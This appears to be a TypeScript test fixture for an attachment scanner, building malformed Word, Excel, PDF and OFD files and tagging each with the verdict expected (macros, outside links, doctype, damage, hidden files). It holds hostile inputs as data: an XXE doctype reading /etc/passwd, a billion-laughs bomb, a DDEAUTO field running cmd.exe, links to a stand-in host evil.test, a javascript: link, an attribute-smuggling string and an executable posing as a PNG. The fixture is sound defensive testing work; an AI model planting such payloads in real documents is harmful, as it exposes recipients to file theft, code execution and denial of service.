import type { HostileRow } from './hostile-file.js';
import { hostile } from './hostile-file.js';
import { docx, replaced, xlsx } from './office-files.js';
import { contentTypes, pdfFile, relations } from './sound-files.js';
import { zipFile } from './zip-file.js';

const rels = (type: string, target: string): Buffer =>
  replaced('word/_rels/document.xml.rels', relations(type, target));

const MACRO = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const BILLION = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>';
const XXE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>';
const IN_DOC = 'word/document.xml';
const STRANGE = Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>', 'utf16le');

const CONTENT: readonly HostileRow[] = [
  ['macros, renamed', 'a.docx', 'attachment-with-macros', () => docx(['word/vbaProject.bin', 'x'])],
  [
    'macros by their type alone',
    'a.docx',
    'attachment-with-macros',
    () => replaced('[Content_Types].xml', contentTypes(MACRO)),
  ],
  [
    'macros of Excel 4',
    'a.xlsx',
    'attachment-with-macros',
    () => xlsx(['xl/macrosheets/sheet1.xml', '<x/>']),
  ],
  [
    'a control that runs',
    'a.docx',
    'attachment-with-macros',
    () => docx(['word/activeX/activeX1.xml', '<x/>']),
  ],
  ['bytes that nobody knows', 'a.xlsx', 'attachment-with-macros', () => xlsx(['xl/unknown.bin', 'x'])],
  [
    'a template elsewhere',
    'a.docx',
    'attachment-with-links',
    () => rels('attachedTemplate', 'https://evil.test/t.dotm'),
  ],
  ['a picture elsewhere', 'a.docx', 'attachment-with-links', () => rels('image', 'https://evil.test/p.png')],
  [
    'a share of Windows',
    'a.docx',
    'attachment-with-links',
    () => rels('hyperlink', '\\\\evil.test\\share\\x'),
  ],
  ['a link that runs', 'a.docx', 'attachment-with-links', () => rels('hyperlink', 'javascript:alert(1)')],
  ['a link to a file', 'a.docx', 'attachment-with-links', () => rels('hyperlink', 'file:///c:/x.exe')],
  [
    'a link spelled in numbers',
    'a.docx',
    'attachment-with-links',
    () => rels('image', 'https://evil.test/&#112;.png'),
  ],
  [
    'a template that says it is a link, in another attribute',
    'a.docx',
    'attachment-with-links',
    () =>
      rels('x" Id=\' Type="/hyperlink" Target="http://a"\' Type="attachedTemplate', 'https://evil.test/t'),
  ],
  [
    'a workbook elsewhere',
    'a.xlsx',
    'attachment-with-links',
    () => xlsx(['xl/externalLinks/externalLink1.xml', '<x/>']),
  ],
  [
    'a field that starts a program',
    'a.docx',
    'attachment-with-links',
    () => replaced(IN_DOC, '<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>'),
  ],
  ['a doctype', 'a.docx', 'attachment-with-doctype', () => replaced(IN_DOC, XXE)],
  ['a billion laughs', 'a.xlsx', 'attachment-with-doctype', () => xlsx(['xl/sharedStrings.xml', BILLION])],
  [
    'a doctype in a part of no consequence',
    'a.docx',
    'attachment-with-doctype',
    () => docx(['docProps/app.xml', XXE]),
  ],
  ['a doctype in an invoice', 'a.ofd', 'attachment-with-doctype', () => zipFile([['OFD.xml', XXE]])],
  ['a doctype in another encoding', 'a.docx', 'attachment-damaged', () => replaced(IN_DOC, STRANGE)],
  [
    'an encoding that hides words',
    'a.docx',
    'attachment-damaged',
    () => replaced(IN_DOC, '<?xml version="1.0" encoding="UTF-7"?><x/>'),
  ],
  ['a part that is no XML', 'a.docx', 'attachment-damaged', () => replaced(IN_DOC, 'plain words')],
  [
    'an object of another program',
    'a.docx',
    'attachment-with-files-inside',
    () => docx(['word/embeddings/oleObject1.bin', 'x']),
  ],
  [
    'a workbook within',
    'a.docx',
    'attachment-with-files-inside',
    () => docx(['word/embeddings/Book.xlsx', { content: xlsx() }]),
  ],
  ['a page within', 'a.docx', 'attachment-with-files-inside', () => docx(['word/afchunk.htm', '<html/>'])],
  [
    'a program called a picture',
    'a.docx',
    'attachment-with-files-inside',
    () => docx(['word/media/image1.png', 'MZ\x90\0']),
  ],
  [
    'an archive called a picture',
    'a.xlsx',
    'attachment-with-files-inside',
    () => xlsx(['xl/media/image1.png', { content: docx() }]),
  ],
  [
    'an archive behind a PDF',
    'a.pdf',
    'attachment-with-files-inside',
    () => Buffer.concat([pdfFile(), docx()]),
  ],
];

/** Archives that are sound as archives, with parts that are not. */
export const HOSTILE_PARTS = hostile(CONTENT);
